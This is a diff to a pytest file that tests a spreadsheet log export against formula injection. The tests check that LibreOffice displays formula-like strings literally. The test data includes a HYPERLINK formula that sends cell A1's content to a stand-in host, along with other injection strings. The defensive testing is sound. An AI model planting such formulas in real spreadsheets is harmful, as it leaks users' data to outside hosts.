@@ -250,16 +250,22 @@ def test_clc_export_writes_text_that_looks_like_a_formula_as_text(commune_db, tm
     for text in FORMULA_TEXTS:
         assert text.strip() in found or text in found
     assert all(c.data_type == "s" for _s, c in _string_cells(out))
-    if shutil.which("libreoffice"):
-        # What a spreadsheet program shows: the literal text, never a computed value.
-        subprocess.run(["libreoffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
-                        "--outdir", str(tmp_path), str(out)],
-                       check=True, capture_output=True, timeout=120,
-                       env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
-        with open(tmp_path / "log.csv", encoding="utf-8", newline="") as fh:
-            shown = {v for row in csv.reader(fh) for v in row}
-        assert '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")' in shown
-        assert {"+1+2", "-3+4", "@SUM(A1:A3)", "=1+1", "\t=2+2"} <= shown  # none computed
+
+
+@pytest.mark.skipif(not shutil.which("libreoffice"), reason="LibreOffice not installed")
+def test_clc_export_shows_formula_like_text_literally_in_libreoffice(commune_db, tmp_path):
+    """What a spreadsheet program shows: the literal text, never a computed value."""
+    inst = get_installation(commune_db)
+    _store_formula_titles(commune_db, inst.unit.id, {"actor": "a", "origin": "o"})
+    out = export_log_xlsx(commune_db, inst.unit.id, clc.ActivityFilter(), tmp_path / "log.xlsx")
+    subprocess.run(["libreoffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
+                    "--outdir", str(tmp_path), str(out)],
+                   check=True, capture_output=True, timeout=120,
+                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
+    with open(tmp_path / "log.csv", encoding="utf-8", newline="") as fh:
+        shown = {v for row in csv.reader(fh) for v in row}
+    assert '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")' in shown
+    assert {"+1+2", "-3+4", "@SUM(A1:A3)", "=1+1", "\t=2+2"} <= shown  # none computed
 
 
 def test_the_template_round_trips_formula_like_text(commune_db, tmp_path):
